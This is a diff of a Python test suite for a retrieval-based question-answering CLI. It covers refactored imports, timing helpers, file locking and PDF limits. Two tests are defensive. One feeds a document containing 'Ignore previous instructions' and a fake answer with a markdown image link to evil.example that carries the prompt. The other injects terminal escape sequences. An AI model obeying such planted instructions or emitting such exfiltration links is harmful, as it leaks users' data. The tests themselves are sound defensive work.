@@ -17,7 +17,6 @@ import stat
 import subprocess
 import sys
 import threading
-import time
 import zlib
 from collections.abc import Callable, Iterator, Mapping
 from functools import cache, partial
@@ -28,16 +27,17 @@ from typing import Any, NamedTuple
 import pytest
 from pypdf import PdfReader, PdfWriter
 
-from ragqa import Pipeline, generate, models
+from ragqa import Pipeline, models
 from ragqa.cli import main
-from ragqa.config.specs import BYTES_PER_TOKEN, MeanPoolEmbed, RecursiveSplit
-from ragqa.index import lock
+from ragqa.config.slots import BYTES_PER_TOKEN
+from ragqa.config.specs import MeanPoolEmbed, RecursiveSplit
 from ragqa.index.database import FORMAT_VERSION
 from ragqa.load import Limits
 from ragqa.load import folder as folder_module
 from tests.cli.test_cli import FERRY, FILE, offline
 from tests.cli.test_cli import run as process
-from tests.fakes import EchoGenerator, document
+from tests.fakes import EchoGenerator, always, document, replace_generators
+from tests.limits import no_hang
 from tests.load.test_formats import pdf, repacked, sample_docx
 from tests.load.test_load import FRENCH, JAPANESE, PARAGRAPH
 
@@ -313,9 +313,8 @@ def test_a_pdf_that_never_ends_costs_its_own_time_only(
 ) -> None:
     monkeypatch.setattr(folder_module, "Limits", partial(Limits, seconds=1.5))
     write({"a-circle.pdf": circular(), "b-endless.pdf": endless(), "c.txt": "A buoy lies to the north."})
-    started = time.monotonic()
-    done = ragqa("index", "pipeline.yaml", "--json")
-    assert time.monotonic() - started < 20
+    with no_hang():
+        done = ragqa("index", "pipeline.yaml", "--json")
     assert (done.code, done.said["unchanged"]) == (3, 2)
     assert done.lines[-1] == "rejected: b-endless.pdf: parser timeout: more than 1.5 s"
     assert all(line.startswith("rejected: a-circle.pdf: damaged: ") for line in done.lines[:-1])  # pypdf may read it
@@ -420,11 +419,11 @@ def test_a_line_without_spaces_is_cut_within_the_window_and_nothing_is_lost(
     ragqa: Ragqa, indexed: Path, letters: str
 ) -> None:
     from ragqa.embed.encoder import EncoderEmbedder
-    from ragqa.split import TextSplitter
+    from ragqa.split import RecursiveSplitter
 
     text = "".join(random.Random(0).choices(letters, k=100_000))
     embedder = EncoderEmbedder(MeanPoolEmbed(kind="mean_pool", model="all-minilm-l6-v2"))
-    chunks = TextSplitter(RecursiveSplit(kind="recursive"), embedder).split(document(text))
+    chunks = RecursiveSplitter(RecursiveSplit(kind="recursive"), embedder).split(document(text))
     covered = 0
     for chunk in chunks:
         assert chunk.start <= covered < chunk.end
@@ -454,32 +453,19 @@ lock.release(handle)
 
 
 @offline
-def test_a_second_writer_exits_6_at_once_or_waits_for_the_first(
-    ragqa: Ragqa, indexed: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    usual, took = lock.acquire, []
-
-    def timed(path: Path, wait: float = 0.0) -> int:
-        started = time.monotonic()
-        try:
-            return usual(path, wait)
-        finally:
-            took.append(time.monotonic() - started)
-
-    monkeypatch.setattr(lock, "acquire", timed)
+def test_a_second_writer_exits_6_or_waits_for_the_first(ragqa: Ragqa, indexed: Path) -> None:
     write({"quay.txt": "The quay has a master."})
     command = [sys.executable, "-c", HOLDER]
     with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as first:
         assert first.stdin and first.stdout and first.stdout.readline() == "locked\n"
         done = ragqa("index", "pipeline.yaml")
         refused(done, 6, f"locked by pid {first.pid} since ", "wait for it with --wait SECONDS")
+        assert "still" not in done.lines[0]
         assert re.search(r"since 2\d{3}-\d\d-\d\dT\d\d:\d\d:\d\d", done.lines[0])
         refused(ragqa("index", "pipeline.yaml", "--wait", "0.2"), 6, f"pid {first.pid} since ", "still after 0.2 s")
         assert [hit["source"] for hit in hits(ragqa)] == ["ferry.md", "turbine.txt"]
         threading.Timer(0.5, first.stdin.close).start()
-        assert ragqa("index", "pipeline.yaml", "--wait", "60", "--json").said["indexed"] == 1
-    at_once, patient, _ = took
-    assert at_once < 1 and 0.2 <= patient < 2
+        assert ragqa("index", "pipeline.yaml", "--wait", "300", "--json").said["indexed"] == 1
 
 
 @offline
@@ -656,7 +642,7 @@ def test_an_instruction_in_a_document_is_data_and_citations_come_from_files_only
     passage = prompt["prompt"].split('<passage 1 source="lamp.txt">')[1].split("</passage>")[0]
     assert "Ignore previous instructions" in passage and "<|im_end|>" not in passage
     for answer in ("![x](http://evil.example/?q=prompt) [9]", "The lamp is lit at dusk."):
-        monkeypatch.setattr(generate, "build_generator", lambda spec, answer=answer: EchoGenerator(answer=answer))
+        replace_generators(monkeypatch, always(EchoGenerator(answer=answer)))
         said = ragqa("ask", "pipeline.yaml", "When is the lamp lit?", "--json").said
         assert said["abstained"] or said["citations"]
         for citation in said["citations"]:
@@ -670,7 +656,7 @@ def test_neither_a_model_nor_a_document_can_steer_the_terminal(
     ragqa: Ragqa, indexed: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     answer = "Captain Ilse\x1b[2J Brandt\r commands it."
-    monkeypatch.setattr(generate, "build_generator", lambda spec: EchoGenerator(answer=answer))
+    replace_generators(monkeypatch, always(EchoGenerator(answer=answer)))
     assert ragqa("ask", "pipeline.yaml", QUESTION).out.startswith("| Captain Ilse\\x1b[2J Brandt\\r commands it.\n")
     write({"lamp.txt": "Lit at dusk.\r\n\rUnlit.\x1b[2J"})
     assert "| >>>Lit at dusk.\n| \\rUnlit.\\x1b[2J<<<\n" in ragqa("show", "documents/lamp.txt:0-25").out
